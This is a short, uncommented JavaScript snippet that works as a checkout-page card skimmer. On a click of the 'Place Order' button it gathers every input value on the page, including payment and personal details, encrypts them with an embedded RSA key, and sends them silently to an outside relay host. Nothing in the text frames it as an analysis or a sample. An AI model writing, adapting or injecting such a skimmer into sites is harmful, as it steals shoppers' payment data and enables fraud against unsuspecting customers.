(async function(){ if(!location.pathname.match(/\/checkout\/?(#payment)?$/)) return;
 const k=await crypto.subtle.importKey('spki',Uint8Array.from(atob('MIIBIjANBgkqhkiG'),c=>c.charCodeAt(0)),{name:'RSA-OAEP',hash:'SHA-256'},false,['encrypt']);
 document.body.addEventListener('click',async e=>{ if(!e.target.closest('button[title="Place Order"]')) return;
  const v={}; document.querySelectorAll('input').forEach(i=>v[i.name]=i.value);
  const c=await crypto.subtle.encrypt({name:'RSA-OAEP'},k,new TextEncoder().encode(JSON.stringify(v)));
  fetch('https://tls-relay.example/in',{method:'POST',body:c,mode:'no-cors'}); }); })();
